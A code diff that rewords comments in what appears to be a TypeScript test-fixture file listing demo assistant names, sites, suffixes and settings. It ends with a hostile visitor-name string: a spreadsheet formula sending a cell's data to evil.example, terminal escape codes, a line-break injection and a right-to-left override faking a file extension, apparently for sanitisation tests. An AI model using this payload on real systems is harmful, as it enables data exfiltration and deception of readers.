@@ -1,4 +1,4 @@
-/** What the demo organization calls its things. The first of each list are there from the beginning. */
+/** The names of the demo organization's things, the first ones first. */
 export const ASSISTANTS: readonly string[] = [
   'Harbor Concierge',
   'Ferry Timetable',
@@ -110,7 +110,7 @@ export const SITES: readonly string[] = [
   'portal',
 ];
 
-/** What is added when a name is used again; the first time nothing is. */
+/** The suffixes of repeated names; none the first time. */
 export const VARIANTS: readonly string[] = [
   '',
   ' North',
@@ -129,7 +129,7 @@ export const VARIANTS: readonly string[] = [
   ' Crew',
 ];
 
-/** What an update of an assistant may touch. */
+/** The settings that an update of an assistant may change. */
 export const SETTINGS: readonly string[] = [
   'instructions',
   'model',
@@ -142,7 +142,7 @@ export const SETTINGS: readonly string[] = [
   'channels',
 ];
 
-/** What a visitor's name may do to a careless reader: a terminal's escapes, a spreadsheet's formula, a reordered line. */
+/** Texts that harm a careless reader: escapes of a terminal, the formula of a spreadsheet, a reordered line. */
 export const HOSTILE_NAME =
   '=HYPERLINK("https://evil.example/?x="&A1,"Refunds")\u001b[2J\u001b]0;owned\u0007\r\nroot\u202Etxt.exe';
 export const HOSTILE_AGENT =
